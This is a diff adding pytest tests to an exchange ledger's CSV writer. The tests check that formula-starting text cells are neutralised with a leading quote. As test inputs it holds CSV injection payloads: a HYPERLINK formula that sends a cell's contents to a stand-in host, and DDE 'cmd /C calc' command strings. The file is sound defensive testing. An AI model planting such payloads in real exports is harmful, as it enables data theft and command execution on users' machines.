@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 from exchange.book import BookState, OrderBook
 from exchange.ledger import (
     CSV_COLUMNS,
+    FORMULA_TRIGGERS,
     HISTORY_KEPT,
     MONEY_CONTEXT,
     SUMS_EVERY,
@@ -25,6 +26,7 @@ from exchange.ledger import (
     MarkSource,
     UpdateSource,
     csv_header,
+    csv_text,
     format_decimal,
     write_csv,
 )
@@ -906,3 +908,54 @@ def test_a_late_fill_replays_from_the_nearest_copy_of_the_sums_not_the_whole_his
 def test_history_kept_must_be_positive() -> None:
     with pytest.raises(ValueError):
         Ledger(history_kept=0)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_text_that_could_start_a_formula_is_neutralised_and_numbers_stay_numbers(text: str) -> None:
+    """OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading quote; the ledger's own
+    numbers are written as numbers, a negative P&L included."""
+    entry = LedgerEntry(symbol=text, pnl=D("-1.5"), position=D("-0.25"), side=text.upper(), update_time=1700)
+    out = io.StringIO()
+    write_csv([entry], out)
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert row["symbol"] == "'" + text
+    assert row["side"] == "'" + text.lower()  # the CSV's lower-case side, neutralised the same way
+    assert (row["pnl"], row["position"], row["update_time"]) == ("-1.5", "-0.25", "1700")
+    assert all(not cell.startswith(FORMULA_TRIGGERS) for cell in row.values() if not _number(cell))
+
+
+def test_csv_plain_text_is_left_alone() -> None:
+    entry = LedgerEntry(symbol="BTCUSDT", side="Buy", pnl=D("2"))
+    assert csv_text("BTCUSDT") == "BTCUSDT" and csv_text("") == ""
+    out = io.StringIO()
+    write_csv([entry], out)
+    row = out.getvalue().splitlines()[1].split(",")
+    assert (row[0], row[1], row[CSV_COLUMNS.index("side")]) == ("BTCUSDT", "2", "buy")
+
+
+def _number(cell: str) -> bool:
+    try:
+        D(cell)
+    except ArithmeticError:
+        return False
+    return True
+
+
+def test_csv_a_carriage_return_inside_a_text_cell_cannot_start_a_row() -> None:
+    """A bare CR is a line break to a spreadsheet: unquoted, ``X\\r=cmd`` would start a row with a formula."""
+    entry = LedgerEntry(symbol="X\r=cmd|' /C calc'!A0", pnl=D("-1.5"))
+    out = io.StringIO()
+    write_csv([entry], out)
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert len(rows) == 2
+    assert (rows[1][0], rows[1][1]) == ("X\r=cmd|' /C calc'!A0", "-1.5")
